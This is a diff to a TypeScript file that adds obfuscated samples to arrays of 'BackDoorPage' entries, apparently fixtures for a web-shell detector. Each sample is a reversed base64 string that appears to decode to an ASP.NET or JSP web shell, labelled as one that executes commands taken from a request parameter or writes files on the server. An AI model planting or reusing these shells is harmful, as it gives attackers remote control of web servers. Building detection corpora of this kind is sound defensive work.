@@ -150,9 +150,37 @@ export const roundabout: readonly BackDoorPage[] = [
     parameter: null,
     text: '==gPlASfgsTKpgyclRXeCRXZn5SZnFGcoUGdpJ3dukiZo0WYlJHdTRXdwRXdPVGbpZkLvlmLhZXYqBydl5GI7BibvlGdwV2Y4VEIzd3byhGdgkiZgUGbpZkLvlmLhZXYqhCd1BHIkl2b2ByOi4jIgsCIiUyOpkiIcNmIchiclRXZtFmchBFdldmL0NXZ1FXZyhyYlhXZukCKl1Wa05WdSRXZn5SZtlGduVnUlwjIg0DIldWYwByZulmc0NFIhUCP',
   },
+  {
+    name: 'blank-directive.ashx',
+    capability: 'executes-commands',
+    parameter: 'c',
+    text: '=0HI9BSfgsTZ1JHdg4mc1RXZyByegQXZnByegUGbiF2c1VmUzlEIs92biByYpxmY1BHI9ByOp0lIjJyW0NXZ1FXZS5CegsCIiAyYvICIsISZ4VmLk12YigCdyFGdT5yczV2YvJHUuM3YpR3cv52ZhlGRu0WZ0NXeTByegkCegQHelRnbvNEc0RHSoQ3clVXclJ1czV2YvJHUgQWavZHIjlGbiVHcgsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7IWZX5SblR3c5NFIn5WazVnC+UCIigkI9M3chx2YgIyIDJSPldWY1dmbhxGIyVGbk5WYoJWZ3BCQgUCP',
+  },
+  {
+    name: 'inherited.asmx',
+    capability: 'executes-commands',
+    parameter: 'a',
+    text: '==Qfg0HI7IiIg4mc1RXZyByOpgCdyFGdT5CcgsTag0DIvZmbJRnchR3UuAHI7kCKQBydl5GI9ACcgM3clN2byBFI7kiYgwSYo8mZulEdyFGdTN3clN2byBFI3Vmbg0DIpBybm5WS0JXY0N1czV2YvJHUgsHIpIGIn5WayR3cgwSYgcmbpJHdzhybHByZulmc0NHIjlGbiVHcg0FZvhGdl1kYld1WgsHIlNWa2JXZTJWZXBiOgMFIzNXYsNGIjlGbiVHcK0HI7ByczV2YvJHUgoDIQByczFGbjByYpxmY1BnC7MXZjlmdyV2UuIWZX5SblR3c5NFIn5WazV3OzNWa0N3budWYpRkLtVGdzl3UgcmbpNXdK4TJgIyUi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgU2YpZnclNlYldFIAVCP',
+  },
+  {
+    name: 'round-attributes.aspx',
+    capability: 'executes-commands',
+    parameter: 'c',
+    text: '=4DdwlmcjN3L8oQfgsTKd1JgiPGnAK+W0NXZ1FXZSBCLdCo4lhXZuQWbjxJgijCdyFGdT5yczV2YvJHUuM3YpR3cv52ZhlGRu0WZ0NXeTByegkCKkF2bM9VZnFGUgQWavZnC+0JgiLXZ2JXZz1Jgi3Ddh5WdyBCdwlmcjNHPK4TJg0JgiPyQdCo49U2ZhV3ZuFGTgU2ZhBFIAVCP',
+  },
 ];
 
 export const doubtful: readonly { readonly name: string; readonly capability: Capability; readonly text: string }[] = [
+  {
+    name: 'makes-a-page.ashx',
+    capability: 'writes-files',
+    text: '=0HI9BSfgsTZ1JHdg4mc1RXZyByegQXZnByegUGbiF2c1VmUzlEIs92biByYpxmY1BHI9ByOpgSZz9GbD5ydgsTKignIoUGdpJ3VucHI7kSKigHczFmLhJCKoRXYQBXYN5iclZnclNlLjhCd4VGVlRXYlJ3QuUGbpZEI9AydgIXZ0lmcX1WYlJHdTByegkyYgQHelRnbvNEc0RHSoQ3clVXclJ1czV2YvJHUgQWavZHIjlGbiVHcgsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC78USu0WZ0NXeTByZul2c1tjYldlLtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
+  },
+  {
+    name: 'logger.jsp',
+    capability: 'writes-files',
+    text: '==gPlAyOpIHKoNXasJWdw5CagsTKlVnc0BCLpIiZigiclRXZtFmchBFdldmL0NXZ1FXZyhiclxGZuFGSlxWaG5yZul2Zn9GbuwWa0VnLhZXYqBydl5GI9ACagIXZsRmbhhUZslmRucmbpd2ZvxmLslGd15SY2FmagUCP',
+  },
   {
     name: 'drives.aspx',
     capability: 'shows-secrets',
